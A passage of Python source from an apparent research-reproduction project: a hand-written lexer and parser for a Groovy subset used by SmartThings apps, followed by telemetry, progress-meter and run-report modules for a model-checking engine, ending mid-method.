            return ast.Elvis(expr, fallback, line=tok.line, col=tok.col)
        if self._cur().is_op("?"):
            tok = self._advance()
            self._skip_newlines()
            then = self._parse_ternary()
            self._skip_newlines()
            self._expect_op(":")
            self._skip_newlines()
            orelse = self._parse_ternary()
            return ast.Ternary(expr, then, orelse, line=tok.line, col=tok.col)
        return expr

    def _parse_binary(self, level):
        if level >= len(_PRECEDENCE_LEVELS):
            return self._parse_unary()
        ops = _PRECEDENCE_LEVELS[level]
        expr = self._parse_binary(level + 1)
        while True:
            tok = self._cur()
            is_match = tok.is_op(*ops) or (tok.type == TokenType.KEYWORD
                                           and tok.value in ops)
            if not is_match:
                break
            op = self._advance().value
            self._skip_newlines()
            if op == "instanceof":
                type_name = self._name_token().value
                expr = ast.Binary(op, expr, ast.Literal(type_name),
                                  line=tok.line, col=tok.col)
                continue
            if op == "..":
                hi = self._parse_binary(level + 1)
                expr = ast.RangeLit(expr, hi, line=tok.line, col=tok.col)
                continue
            right = self._parse_binary(level + 1)
            expr = ast.Binary(op, expr, right, line=tok.line, col=tok.col)
        # `expr as Type`
        if self._cur().is_kw("as"):
            tok = self._advance()
            type_name = self._name_token().value
            expr = ast.Cast(expr, type_name, line=tok.line, col=tok.col)
        return expr

    def _parse_unary(self):
        tok = self._cur()
        if tok.is_op("!", "-", "+", "++", "--", "~"):
            self._advance()
            operand = self._parse_unary()
            return ast.Unary(tok.value, operand, line=tok.line, col=tok.col)
        return self._parse_postfix()

    def _parse_postfix(self):
        expr = self._parse_primary()
        while True:
            tok = self._cur()
            if tok.is_op(".", "?.", "*."):
                self._advance()
                self._skip_newlines()
                name = self._name_token().value
                safe = tok.value == "?."
                spread = tok.value == "*."
                if self._cur().is_op("("):
                    args, named = self._parse_paren_args()
                    closure = None
                    if self._cur().is_op("{"):
                        closure = self._parse_closure()
                    expr = ast.MethodCall(expr, name, args, named=named,
                                          closure=closure, safe=safe,
                                          spread=spread, line=tok.line,
                                          col=tok.col)
                elif self._cur().is_op("{"):
                    closure = self._parse_closure()
                    expr = ast.MethodCall(expr, name, [], closure=closure,
                                          safe=safe, spread=spread,
                                          line=tok.line, col=tok.col)
                else:
                    expr = ast.Property(expr, name, safe=safe,
                                        line=tok.line, col=tok.col)
            elif tok.is_op("("):
                args, named = self._parse_paren_args()
                closure = None
                if self._cur().is_op("{"):
                    closure = self._parse_closure()
                if isinstance(expr, ast.Name):
                    expr = ast.Call(expr.id, args, named=named, closure=closure,
                                    line=expr.line, col=expr.col)
                elif isinstance(expr, ast.Property):
                    expr = ast.MethodCall(expr.obj, expr.name, args, named=named,
                                          closure=closure, safe=expr.safe,
                                          line=expr.line, col=expr.col)
                else:
                    self._error("cannot call this expression")
            elif tok.is_op("["):
                self._advance()
                self._skip_newlines()
                index = self.parse_expr()
                self._skip_newlines()
                self._expect_op("]")
                expr = ast.Index(expr, index, line=tok.line, col=tok.col)
            elif tok.is_op("{") and isinstance(expr, ast.Name):
                closure = self._parse_closure()
                expr = ast.Call(expr.id, [], closure=closure,
                                line=expr.line, col=expr.col)
            elif tok.is_op("++", "--"):
                self._advance()
                expr = ast.Postfix(tok.value, expr, line=tok.line, col=tok.col)
            else:
                break
        return expr

    def _parse_paren_args(self):
        self._expect_op("(")
        self._skip_newlines()
        args, named = [], []
        while not self._cur().is_op(")"):
            if self._is_named_arg():
                key = self._name_token().value
                self._expect_op(":")
                self._skip_newlines()
                named.append(ast.MapEntry(key, self.parse_expr()))
            else:
                args.append(self.parse_expr())
            self._skip_newlines()
            if self._cur().is_op(","):
                self._advance()
                self._skip_newlines()
        self._expect_op(")")
        return args, named

    def _parse_closure(self):
        tok = self._expect_op("{")
        params = self._try_parse_closure_params()
        stmts = []
        self._skip_newlines()
        while not self._cur().is_op("}"):
            if self._cur().type == TokenType.EOF:
                self._error("unexpected end of input inside closure")
            stmts.append(self._parse_statement())
            self._skip_newlines()
        self._expect_op("}")
        body = ast.Block(stmts, line=tok.line, col=tok.col)
        return ast.Closure(params, body, line=tok.line, col=tok.col)

    def _try_parse_closure_params(self):
        """Speculatively parse ``a, b ->``; backtrack when absent."""
        save = self.pos
        self._skip_newlines()
        params = []
        while True:
            if (self._cur().type == TokenType.IDENT
                    and self._peek().type == TokenType.IDENT):
                type_name = self._advance().value
                params.append(ast.Param(self._advance().value, type_name=type_name))
            elif self._cur().type == TokenType.IDENT:
                params.append(ast.Param(self._advance().value))
            else:
                self.pos = save
                return []
            if self._cur().is_op(","):
                self._advance()
                self._skip_newlines()
                continue
            break
        if self._cur().is_op("->"):
            self._advance()
            return params
        self.pos = save
        return []

    def _parse_primary(self):
        tok = self._cur()
        if tok.type == TokenType.NUMBER:
            self._advance()
            return ast.Literal(tok.value, line=tok.line, col=tok.col)
        if tok.type == TokenType.STRING:
            self._advance()
            return ast.Literal(tok.value, line=tok.line, col=tok.col)
        if tok.type == TokenType.GSTRING:
            self._advance()
            return self._build_gstring(tok)
        if tok.is_kw("true"):
            self._advance()
            return ast.Literal(True, line=tok.line, col=tok.col)
        if tok.is_kw("false"):
            self._advance()
            return ast.Literal(False, line=tok.line, col=tok.col)
        if tok.is_kw("null"):
            self._advance()
            return ast.Literal(None, line=tok.line, col=tok.col)
        if tok.is_kw("new"):
            self._advance()
            type_name = self._name_token().value
            args = []
            if self._cur().is_op("("):
                args, _named = self._parse_paren_args()
            return ast.New(type_name, args, line=tok.line, col=tok.col)
        if tok.type == TokenType.IDENT:
            self._advance()
            return ast.Name(tok.value, line=tok.line, col=tok.col)
        if tok.is_op("("):
            self._advance()
            self._skip_newlines()
            expr = self.parse_expr()
            self._skip_newlines()
            self._expect_op(")")
            return expr
        if tok.is_op("["):
            return self._parse_list_or_map()
        if tok.is_op("{"):
            return self._parse_closure()
        self._error("unexpected token %r" % (tok.value,))

    def _build_gstring(self, tok):
        parts = []
        for part in tok.value:
            if isinstance(part, Interp):
                sub = parse_expression(part.source, source_name=self.source_name)
                parts.append(sub)
            else:
                parts.append(part)
        return ast.GString(parts, line=tok.line, col=tok.col)

    def _parse_list_or_map(self):
        tok = self._expect_op("[")
        self._skip_newlines()
        if self._cur().is_op(":"):  # `[:]` empty map
            self._advance()
            self._skip_newlines()
            self._expect_op("]")
            return ast.MapLit([], line=tok.line, col=tok.col)
        if self._cur().is_op("]"):
            self._advance()
            return ast.ListLit([], line=tok.line, col=tok.col)
        first = self.parse_expr()
        if self._cur().is_op(":"):
            return self._parse_map_rest(tok, first)
        items = [first]
        self._skip_newlines()
        while self._cur().is_op(","):
            self._advance()
            self._skip_newlines()
            if self._cur().is_op("]"):
                break
            items.append(self.parse_expr())
            self._skip_newlines()
        self._expect_op("]")
        return ast.ListLit(items, line=tok.line, col=tok.col)

    def _parse_map_rest(self, tok, first_key):
        entries = []

        def key_of(expr):
            if isinstance(expr, ast.Name):
                return expr.id
            if isinstance(expr, ast.Literal) and isinstance(expr.value, str):
                return expr.value
            return expr  # computed key

        self._expect_op(":")
        self._skip_newlines()
        entries.append(ast.MapEntry(key_of(first_key), self.parse_expr()))
        self._skip_newlines()
        while self._cur().is_op(","):
            self._advance()
            self._skip_newlines()
            if self._cur().is_op("]"):
                break
            key = self.parse_expr()
            self._skip_newlines()
            self._expect_op(":")
            self._skip_newlines()
            entries.append(ast.MapEntry(key_of(key), self.parse_expr()))
            self._skip_newlines()
        self._expect_op("]")
        return ast.MapLit(entries, line=tok.line, col=tok.col)


def parse(source, source_name="<groovy>"):
    """Parse Groovy source text into a :class:`Program`."""
    tokens = tokenize(source, source_name)
    return Parser(tokens, source_name).parse_program()


def parse_expression(source, source_name="<groovy>"):
    """Parse a single Groovy expression (used for GString interpolation)."""
    tokens = tokenize(source, source_name)
    parser = Parser(tokens, source_name)
    parser._skip_newlines()
    expr = parser.parse_expr()
    return expr
