"""Groovy-subset frontend for SmartThings smart apps.

The SmartThings platform executes apps written in Groovy with a few
platform-specific DSL extensions (``definition``, ``preferences``/``input``,
``subscribe``, ``schedule`` and friends).  The paper's translator pipeline
(Groovy -> Java AST -> Bandera -> Promela) begins with parsing Groovy; since
no native Groovy parser exists for Python we hand-roll a lexer and a
recursive-descent parser for the subset of Groovy that smart apps actually
use: closures, command-style (paren-less) calls, GString interpolation,
list/map literals, safe navigation, the elvis operator, ranges and the spread
operator.

Public entry points:

* :func:`parse` / :func:`parse_expression` - source text to AST.
* :mod:`repro.groovy.ast` - the AST node classes.
"""

from repro.groovy.errors import GroovyError, LexError, ParseError
from repro.groovy.lexer import Lexer, Token, TokenType, tokenize
from repro.groovy.parser import Parser, parse, parse_expression

__all__ = [
    "GroovyError",
    "LexError",
    "ParseError",
    "Lexer",
    "Token",
    "TokenType",
    "tokenize",
    "Parser",
    "parse",
    "parse_expression",
]
