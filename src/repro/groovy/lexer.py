"""Lexer for the Groovy subset.

Produces a flat token stream.  Newlines are significant in Groovy (they
terminate statements and block command-style call arguments from spilling
over), so the lexer emits ``NEWLINE`` tokens; the parser skips them where the
grammar allows continuation (after operators, inside parens, etc.).

Double-quoted strings are scanned as *GStrings*: the token value is a list of
parts alternating literal text (``str``) and raw interpolation source
(wrapped in :class:`Interp`), which the parser sub-parses into expressions.
"""

from repro.groovy.errors import LexError


class TokenType:
    """Token type tags (plain strings for cheap comparison)."""

    IDENT = "IDENT"
    KEYWORD = "KEYWORD"
    NUMBER = "NUMBER"
    STRING = "STRING"          # single-quoted, no interpolation
    GSTRING = "GSTRING"        # double-quoted, value is a list of parts
    OP = "OP"
    NEWLINE = "NEWLINE"
    EOF = "EOF"


KEYWORDS = frozenset([
    "def", "if", "else", "return", "true", "false", "null",
    "for", "while", "in", "switch", "case", "default", "break", "continue",
    "private", "public", "protected", "static", "final", "void", "new", "as",
    "instanceof", "try", "catch", "finally", "throw", "import", "package",
])

# Longest-match-first operator table.
OPERATORS = [
    "==~", "<=>", "**", "=~",
    "==", "!=", "<=", ">=", "&&", "||", "++", "--", "+=", "-=", "*=", "/=",
    "?:", "?.", "*.", "..", "->", "<<", ">>",
    "+", "-", "*", "/", "%", "<", ">", "=", "!", "?", ":", ".", ",", ";",
    "(", ")", "[", "]", "{", "}", "&", "|", "^", "~", "@",
]


class Interp:
    """Raw source of a ``${...}`` interpolation inside a GString."""

    __slots__ = ("source", "line", "col")

    def __init__(self, source, line, col):
        self.source = source
        self.line = line
        self.col = col

    def __repr__(self):
        return "Interp(%r)" % (self.source,)

    def __eq__(self, other):
        return isinstance(other, Interp) and other.source == self.source

    def __hash__(self):
        return hash(("Interp", self.source))


class Token:
    """A single lexical token with its source position."""

    __slots__ = ("type", "value", "line", "col")

    def __init__(self, type_, value, line, col):
        self.type = type_
        self.value = value
        self.line = line
        self.col = col

    def __repr__(self):
        return "Token(%s, %r, %d:%d)" % (self.type, self.value, self.line, self.col)

    def is_op(self, *ops):
        return self.type == TokenType.OP and self.value in ops

    def is_kw(self, *kws):
        return self.type == TokenType.KEYWORD and self.value in kws


class Lexer:
    """Converts Groovy source text into a token list."""

    def __init__(self, source, source_name="<groovy>"):
        self.source = source
        self.source_name = source_name
        self.pos = 0
        self.line = 1
        self.col = 1
        self.tokens = []

    # -- low-level helpers --------------------------------------------------

    def _peek(self, offset=0):
        index = self.pos + offset
        if index < len(self.source):
            return self.source[index]
        # NUL sentinel: never alphanumeric and not a member of any of the
        # character classes tested below (`"" in s` would be vacuously true).
        return "\0"

    def _advance(self, count=1):
        for _ in range(count):
            if self.pos >= len(self.source):
                return
            if self.source[self.pos] == "\n":
                self.line += 1
                self.col = 1
            else:
                self.col += 1
            self.pos += 1

    def _error(self, message):
        raise LexError(message, self.line, self.col, self.source_name)

    def _emit(self, type_, value, line=None, col=None):
        self.tokens.append(Token(type_, value, line or self.line, col or self.col))

    # -- scanning -----------------------------------------------------------

    def tokenize(self):
        """Scan the whole source; returns the token list ending in EOF."""
        while self.pos < len(self.source):
            ch = self._peek()
            if ch == "\n":
                self._emit(TokenType.NEWLINE, "\n")
                self._advance()
            elif ch in " \t\r":
                self._advance()
            elif ch == "\\" and self._peek(1) == "\n":
                self._advance(2)  # explicit line continuation
            elif ch == "/" and self._peek(1) == "/":
                self._scan_line_comment()
            elif ch == "/" and self._peek(1) == "*":
                self._scan_block_comment()
            elif ch.isdigit():
                self._scan_number()
            elif ch.isalpha() or ch == "_" or ch == "$":
                self._scan_word()
            elif ch == "'":
                self._scan_single_quoted()
            elif ch == '"':
                self._scan_double_quoted()
            else:
                self._scan_operator()
        self._emit(TokenType.EOF, None)
        return self.tokens

    def _scan_line_comment(self):
        while self.pos < len(self.source) and self._peek() != "\n":
            self._advance()

    def _scan_block_comment(self):
        self._advance(2)
        while self.pos < len(self.source):
            if self._peek() == "*" and self._peek(1) == "/":
                self._advance(2)
                return
            self._advance()
        self._error("unterminated block comment")

    def _scan_number(self):
        line, col = self.line, self.col
        start = self.pos
        while self._peek().isdigit():
            self._advance()
        is_float = False
        if self._peek() == "." and self._peek(1).isdigit():
            is_float = True
            self._advance()
            while self._peek().isdigit():
                self._advance()
        # Trailing type suffixes (L, G, f, d) are accepted and ignored.
        if self._peek() in "LlGgFfDd":
            if self._peek() in "FfDd":
                is_float = True
            self._advance()
        text = self.source[start:self.pos].rstrip("LlGgFfDd")
        value = float(text) if is_float else int(text)
        self._emit(TokenType.NUMBER, value, line, col)

    def _scan_word(self):
        line, col = self.line, self.col
        start = self.pos
        while self._peek().isalnum() or self._peek() in "_$":
            self._advance()
        word = self.source[start:self.pos]
        if word in KEYWORDS:
            self._emit(TokenType.KEYWORD, word, line, col)
        else:
            self._emit(TokenType.IDENT, word, line, col)

    def _scan_escape(self):
        """Consume a backslash escape, returning the decoded character."""
        self._advance()  # backslash
        ch = self._peek()
        mapping = {"n": "\n", "t": "\t", "r": "\r", "\\": "\\",
                   "'": "'", '"': '"', "$": "$", "0": "\0", "b": "\b"}
        self._advance()
        return mapping.get(ch, ch)

    def _scan_single_quoted(self):
        line, col = self.line, self.col
        triple = self.source.startswith("'''", self.pos)
        quote = "'''" if triple else "'"
        self._advance(len(quote))
        out = []
        while self.pos < len(self.source):
            if self.source.startswith(quote, self.pos):
                self._advance(len(quote))
                self._emit(TokenType.STRING, "".join(out), line, col)
                return
            if self._peek() == "\\":
                out.append(self._scan_escape())
            else:
                out.append(self._peek())
                self._advance()
        self._error("unterminated string literal")

    def _scan_double_quoted(self):
        line, col = self.line, self.col
        triple = self.source.startswith('"""', self.pos)
        quote = '"""' if triple else '"'
        self._advance(len(quote))
        parts = []
        text = []

        def flush():
            if text:
                parts.append("".join(text))
                del text[:]

        while self.pos < len(self.source):
            if self.source.startswith(quote, self.pos):
                self._advance(len(quote))
                flush()
                if any(isinstance(p, Interp) for p in parts):
                    self._emit(TokenType.GSTRING, parts, line, col)
                else:
                    self._emit(TokenType.STRING, "".join(parts), line, col)
                return
            ch = self._peek()
            if ch == "\\":
                text.append(self._scan_escape())
            elif ch == "$" and self._peek(1) == "{":
                flush()
                parts.append(self._scan_interp_braced())
            elif ch == "$" and (self._peek(1).isalpha() or self._peek(1) == "_"):
                flush()
                parts.append(self._scan_interp_bare())
            else:
                text.append(ch)
                self._advance()
        self._error("unterminated string literal")

    def _scan_interp_braced(self):
        iline, icol = self.line, self.col
        self._advance(2)  # `${`
        start = self.pos
        depth = 1
        while self.pos < len(self.source):
            ch = self._peek()
            if ch == "{":
                depth += 1
            elif ch == "}":
                depth -= 1
                if depth == 0:
                    source = self.source[start:self.pos]
                    self._advance()
                    return Interp(source, iline, icol)
            self._advance()
        self._error("unterminated ${...} interpolation")

    def _scan_interp_bare(self):
        iline, icol = self.line, self.col
        self._advance()  # `$`
        start = self.pos
        while self._peek().isalnum() or self._peek() == "_":
            self._advance()
        # Dotted property paths: $evt.value
        while self._peek() == "." and (self._peek(1).isalpha() or self._peek(1) == "_"):
            self._advance()
            while self._peek().isalnum() or self._peek() == "_":
                self._advance()
        return Interp(self.source[start:self.pos], iline, icol)

    def _scan_operator(self):
        line, col = self.line, self.col
        for op in OPERATORS:
            if self.source.startswith(op, self.pos):
                self._advance(len(op))
                self._emit(TokenType.OP, op, line, col)
                return
        self._error("unexpected character %r" % self._peek())


def tokenize(source, source_name="<groovy>"):
    """Tokenize ``source``; convenience wrapper over :class:`Lexer`."""
    return Lexer(source, source_name).tokenize()
