"""``repro report RUN.jsonl``: render a run timeline from a telemetry sink.

Pure function over the parsed event list (testable without a real run):
per run - the shape header from ``run_start``/``run_end``, the phase
spans, a throughput curve as a text sparkline over the snapshot stream,
and a per-shard table from the forwarded worker snapshots.  A sink that
several batch jobs appended to renders one section per ``job`` key.
"""

from collections import OrderedDict

#: eight-level block characters for the throughput sparkline
SPARK_CHARS = "▁▂▃▄▅▆▇█"


def _count(value):
    return format(int(value), ",d")


def sparkline(values):
    """Scale a number series onto the block-character ramp."""
    if not values:
        return ""
    low = min(values)
    high = max(values)
    if high <= low:
        return SPARK_CHARS[3] * len(values)
    span = high - low
    top = len(SPARK_CHARS) - 1
    return "".join(SPARK_CHARS[int(round((value - low) / span * top))]
                   for value in values)


def throughput_series(snapshots):
    """Interval states/s between consecutive snapshots (first interval
    measured from zero): the series the sparkline draws."""
    rates = []
    last_states = 0
    last_elapsed = 0.0
    for snap in snapshots:
        states = snap.get("states", 0)
        elapsed = snap.get("elapsed", 0.0)
        gap = elapsed - last_elapsed
        if gap > 0:
            rates.append((states - last_states) / gap)
        last_states, last_elapsed = states, elapsed
    return rates


def render_report(events):
    """The human-readable report for one sink's parsed event list."""
    if not events:
        return "empty telemetry sink (no events)"
    runs = OrderedDict()
    for event in events:
        runs.setdefault(event.get("job"), []).append(event)
    sections = [_render_run(job, run_events)
                for job, run_events in runs.items()]
    return "\n\n".join(sections)


def _render_run(job, events):
    start = next((e for e in events if e.get("kind") == "run_start"), None)
    end = next((e for e in reversed(events)
                if e.get("kind") == "run_end"), None)
    snapshots = [e for e in events if e.get("kind") == "snapshot"]
    spans = [e for e in events if e.get("kind") == "span"]
    shards = OrderedDict()  # worker id -> latest forwarded snapshot
    for event in events:
        if event.get("kind") == "shard_snapshot":
            shards[event.get("worker")] = event

    lines = ["run%s" % (" %s" % job if job else "")]
    if start is not None:
        lines.append(
            "  shape: depth %s, engine %s, visited %s, strategy %s, "
            "scenario %s, %s worker(s)" % (
                start.get("max_events", "?"), start.get("engine", "?"),
                start.get("visited", "?"), start.get("strategy", "?"),
                start.get("scenario", "?"), start.get("workers", 1)))
    if end is not None:
        verdict = end.get("verdict", "?")
        elapsed = end.get("run_elapsed", end.get("elapsed", 0.0))
        rate = (end.get("states", 0) / elapsed) if elapsed else 0.0
        lines.append(
            "  outcome: %s (%d violation(s)); %s states, %s transitions "
            "in %.2fs (%s states/s)%s" % (
                verdict, end.get("violations", 0),
                _count(end.get("states", 0)),
                _count(end.get("transitions", 0)), elapsed, _count(rate),
                " [truncated: %s]" % end.get("truncated_reason")
                if end.get("truncated") else ""))
    if spans:
        total = sum(s.get("seconds", 0.0) for s in spans) or 1.0
        lines.append("  phases:")
        for span in sorted(spans, key=lambda s: -s.get("seconds", 0.0)):
            seconds = span.get("seconds", 0.0)
            lines.append("    %-14s %8.3fs  %5.1f%%"
                         % (span.get("name", "?"), seconds,
                            100.0 * seconds / total))
    rates = throughput_series(snapshots)
    if rates:
        lines.append("  throughput (%d snapshot(s), %s..%s states/s):"
                     % (len(snapshots), _count(min(rates)),
                        _count(max(rates))))
        lines.append("    %s" % sparkline(rates))
    if shards:
        lines.append("  shards:")
        lines.append("    %-6s %12s %12s %10s %12s %7s"
                     % ("worker", "states", "transitions", "handoffs",
                        "wire KiB", "steals"))
        for worker in sorted(shards, key=lambda w: (w is None, w)):
            snap = shards[worker]
            lines.append("    %-6s %12s %12s %10s %12.1f %7s" % (
                worker if worker is not None else "?",
                _count(snap.get("states", 0)),
                _count(snap.get("transitions", 0)),
                _count(snap.get("handoffs_sent", 0)),
                snap.get("handoff_bytes", 0) / 1024.0,
                _count(snap.get("steals", 0))))
    if len(lines) == 1:
        lines.append("  (no run events recorded)")
    return "\n".join(lines)
