"""The live single-line progress meter for ``repro check --progress``.

One ``\\r``-repainted stderr line per snapshot - states, transitions,
throughput, frontier size/depth, cache hit rate - finished with a
newline on close so the run summary starts clean.  Writes go to stderr
(stdout stays machine-consumable: ``--json`` output and the summary are
unpolluted), and repaints are rate-limited so a fast engine does not
turn the terminal into the bottleneck.
"""

import sys
import time

#: minimum seconds between repaints (snapshots can arrive far faster)
REFRESH_SECONDS = 0.1


def _count(value):
    """Humanize a count: 1234567 -> '1,234,567'."""
    return format(int(value), ",d")


class ProgressMeter:
    """Single-line live meter over telemetry snapshot dicts."""

    def __init__(self, label=None, stream=None, refresh=REFRESH_SECONDS):
        self.label = label
        self.stream = stream if stream is not None else sys.stderr
        self.refresh = refresh
        self._last_paint = 0.0
        self._last_width = 0
        self._painted = False

    def render(self, fields):
        """The meter line for one snapshot (no trailing newline)."""
        elapsed = fields.get("elapsed", 0.0)
        states = fields.get("states", 0)
        rate = states / elapsed if elapsed > 0 else 0.0
        parts = ["[%6.1fs]" % elapsed,
                 "%s states" % _count(states),
                 "%s trans" % _count(fields.get("transitions", 0)),
                 "%s st/s" % _count(rate)]
        if "frontier" in fields:
            parts.append("frontier %s" % _count(fields["frontier"]))
        if fields.get("depth") is not None:
            parts.append("depth %d" % fields["depth"])
        if "cache_hit_rate" in fields:
            parts.append("cache %.1f%%" % (100.0 * fields["cache_hit_rate"]))
        if fields.get("workers_reporting"):
            parts.append("%d shard(s)" % fields["workers_reporting"])
        line = " | ".join(parts)
        if self.label:
            line = "%s: %s" % (self.label, line)
        return line

    def update(self, fields, force=False):
        now = time.monotonic()
        if not force and now - self._last_paint < self.refresh:
            return
        self._last_paint = now
        line = self.render(fields)
        # pad over the previous paint so a shrinking line leaves no tail
        padding = " " * max(0, self._last_width - len(line))
        self._last_width = len(line)
        self._painted = True
        try:
            self.stream.write("\r" + line + padding)
            self.stream.flush()
        except (OSError, ValueError):
            pass  # a closed/broken stderr must never kill the run

    def close(self):
        """Finish the meter line so subsequent output starts clean."""
        if not self._painted:
            return
        self._painted = False
        try:
            self.stream.write("\n")
            self.stream.flush()
        except (OSError, ValueError):
            pass
