"""Run telemetry: metric registry, spans, and the JSONL event sink.

Three cooperating pieces, all near-zero-overhead when unused:

* :class:`TelemetryConfig` - the *declarative* request attached to
  ``EngineOptions(telemetry=...)``.  It is plain picklable data (a sink
  path, a progress-meter flag, a board key, a snapshot cadence) so it
  travels with jobs into shard and pool worker processes; live handles
  never cross a process boundary.
* :class:`TelemetrySession` - the runtime opened by whoever executes a
  run (the in-process engine, or the sharded parent on behalf of its
  workers).  It stamps every event with the schema version and the
  monotonic elapsed clock, appends one JSON line per event to the sink,
  drives the optional stderr meter and publishes the latest snapshot to
  the process-wide :data:`PROGRESS_BOARD`.
* :class:`MetricsRegistry` - labelled counters and gauges for the
  service's Prometheus ``/metrics`` endpoint
  (:mod:`repro.obs.prometheus` renders it).

The sink is **versioned**: every line carries ``"v"`` and
:func:`read_events` refuses lines written by a newer schema instead of
misreading them - the same contract the result store follows.

Telemetry never participates in the vetting service's semantic digests
(:data:`repro.service.digest.SEMANTIC_OPTION_FIELDS` is an allowlist
that excludes it), so enabling a sink can never split the result cache.
"""

import json
import threading
import time

#: bump when the JSONL event layout changes; readers refuse newer
TELEMETRY_SCHEMA_VERSION = 1

#: default minimum transitions between progress snapshots.  Matches the
#: shard workers' ``STATUS_EVERY`` cadence; coarse enough that even the
#: O(n)-stats stores (exact/collapse) pay nothing measurable.
DEFAULT_SNAPSHOT_INTERVAL = 4096


class TelemetryConfig:
    """Declarative telemetry request (picklable; travels with jobs).

    ``path``
        JSONL sink file; events are *appended* (one line per event, one
        ``write()`` call per line, so concurrent batch jobs interleave
        whole lines).
    ``progress``
        Drive the live single-line stderr meter
        (:class:`repro.obs.progress.ProgressMeter`).
    ``job``
        Board key: snapshots are published to :data:`PROGRESS_BOARD`
        under this name (the scheduler keys it by job id for
        ``/jobs/<id>/progress``; ``repro batch`` keys it by job name so
        sink lines are attributable).
    ``interval``
        Minimum transitions between snapshots (default
        :data:`DEFAULT_SNAPSHOT_INTERVAL`); sampling still piggybacks on
        the engine's ``check_interval`` wall-clock sampling, so the
        effective gap is ``max(interval, check_interval)``.
    """

    __slots__ = ("path", "progress", "job", "interval")

    def __init__(self, path=None, progress=False, job=None, interval=None):
        self.path = path
        self.progress = bool(progress)
        self.job = job
        self.interval = interval

    @property
    def enabled(self):
        """Whether this config asks for any telemetry at all."""
        return bool(self.path or self.progress or self.job)

    def snapshot_gap(self, check_interval):
        """Transitions between snapshots, floored by the time-check
        cadence the sampling piggybacks on."""
        interval = self.interval
        if interval is None:
            interval = DEFAULT_SNAPSHOT_INTERVAL
        return max(1, int(check_interval), int(interval))

    # __slots__ classes need explicit pickle plumbing
    def __getstate__(self):
        return (self.path, self.progress, self.job, self.interval)

    def __setstate__(self, state):
        self.path, self.progress, self.job, self.interval = state

    def __repr__(self):
        return ("TelemetryConfig(path=%r, progress=%r, job=%r, interval=%r)"
                % (self.path, self.progress, self.job, self.interval))


def resolve_telemetry(value):
    """Normalize an ``EngineOptions(telemetry=...)`` value.

    Accepts ``None``, a :class:`TelemetryConfig`, a sink path string, or
    a keyword dict (the JSON-payload form).
    """
    if value is None or isinstance(value, TelemetryConfig):
        return value
    if isinstance(value, str):
        return TelemetryConfig(path=value)
    if isinstance(value, dict):
        return TelemetryConfig(**value)
    raise TypeError("telemetry must be None, a path, a dict or a "
                    "TelemetryConfig, not %r" % (value,))


# ---------------------------------------------------------------------------
# metric registry (counters / gauges / spans)
# ---------------------------------------------------------------------------


def _label_key(labels):
    return tuple(sorted(labels.items()))


class _Metric:
    """One named metric family: samples keyed by their label sets."""

    kind = None

    def __init__(self, name, help_text=""):
        self.name = name
        self.help = help_text
        self._samples = {}  # sorted (label, value) tuple -> number

    def samples(self):
        """``[(labels dict, value), ...]`` in insertion order."""
        return [(dict(key), value) for key, value in self._samples.items()]

    def value(self, **labels):
        return self._samples.get(_label_key(labels), 0)


class Counter(_Metric):
    """Monotonically increasing metric (Prometheus ``counter``)."""

    kind = "counter"

    def inc(self, amount=1, **labels):
        key = _label_key(labels)
        self._samples[key] = self._samples.get(key, 0) + amount


class Gauge(_Metric):
    """Point-in-time metric (Prometheus ``gauge``)."""

    kind = "gauge"

    def set(self, value, **labels):
        self._samples[_label_key(labels)] = value


class MetricsRegistry:
    """Name -> metric registry, rendered by
    :func:`repro.obs.prometheus.render_exposition`.

    Registration is idempotent per name (re-registering returns the
    existing metric) and thread-safe; the service handler threads build
    one fresh registry per scrape, so values are always a consistent
    point-in-time view.
    """

    def __init__(self):
        self._lock = threading.Lock()
        self._metrics = {}

    def counter(self, name, help_text=""):
        return self._register(Counter, name, help_text)

    def gauge(self, name, help_text=""):
        return self._register(Gauge, name, help_text)

    def _register(self, cls, name, help_text):
        with self._lock:
            metric = self._metrics.get(name)
            if metric is None:
                metric = cls(name, help_text)
                self._metrics[name] = metric
            elif not isinstance(metric, cls):
                raise ValueError("metric %r already registered as %s"
                                 % (name, metric.kind))
            return metric

    def families(self):
        """The registered metrics, in registration order."""
        with self._lock:
            return list(self._metrics.values())


class Span:
    """Monotonic-clock phase timer: ``with Span(session, "explore"): ...``.

    Emits one ``span`` event on exit.  The engine's own phases reuse its
    existing ``_phase_times`` accounting and emit spans at finish, so
    this context manager is for callers timing work *around* a run.
    """

    def __init__(self, session, name):
        self.session = session
        self.name = name
        self.seconds = None
        self._started = None

    def __enter__(self):
        self._started = time.monotonic()
        return self

    def __exit__(self, exc_type, exc, tb):
        self.seconds = time.monotonic() - self._started
        if self.session is not None:
            self.session.span(self.name, self.seconds)
        return False


# ---------------------------------------------------------------------------
# the in-process progress board
# ---------------------------------------------------------------------------


class ProgressBoard:
    """Latest snapshot per job key, shared across threads in a process.

    The scheduler injects a board-keyed :class:`TelemetryConfig` into
    every job it drains; runs executed in-process (inline and sharded
    jobs - the service's common paths) publish here, and the API's
    ``/jobs/<id>/progress`` and ``/metrics`` endpoints read it.  Jobs
    that execute inside *pool worker processes* publish to that worker's
    board, which the parent cannot see - a documented limitation of the
    pooled path, not an error.
    """

    def __init__(self):
        self._lock = threading.Lock()
        self._latest = {}

    def publish(self, job, snapshot):
        with self._lock:
            self._latest[job] = dict(snapshot)

    def latest(self, job):
        """The newest snapshot for ``job`` (a copy), or ``None``."""
        with self._lock:
            snapshot = self._latest.get(job)
            return dict(snapshot) if snapshot is not None else None

    def discard(self, job):
        with self._lock:
            self._latest.pop(job, None)

    def jobs(self):
        with self._lock:
            return sorted(self._latest)


#: the process-wide board (one per process by design: the service's
#: handler threads and scheduler thread share this instance)
PROGRESS_BOARD = ProgressBoard()


# ---------------------------------------------------------------------------
# the live session + JSONL sink
# ---------------------------------------------------------------------------


class TelemetrySession:
    """Live telemetry for one run: sink, meter and board, one handle.

    Opened by the process that *executes* a run - the in-process engine
    (:meth:`ExplorationEngine._open_telemetry`) or the sharded parent
    (:func:`repro.engine.parallel.explore_sharded`), never by shard
    workers (they forward compact snapshots over the control queue and
    the parent writes the merged cluster view).  All methods are cheap
    and exception-free by construction: telemetry must never be able to
    change a run's outcome.
    """

    def __init__(self, config):
        self.config = config
        self.started = time.monotonic()
        #: warning name -> times emitted this session (the counter the
        #: ``warning`` events carry, so a reader can dedup by count)
        self.warning_counts = {}
        self._sink = None
        self._meter = None
        if config.path:
            # append + line buffering: one write() per event line, so
            # concurrent batch jobs interleave whole lines, never bytes
            self._sink = open(config.path, "a", encoding="utf-8",
                              buffering=1)
        if config.progress:
            from repro.obs.progress import ProgressMeter
            self._meter = ProgressMeter(label=config.job)

    # -- event plumbing ----------------------------------------------------

    def _emit(self, kind, fields):
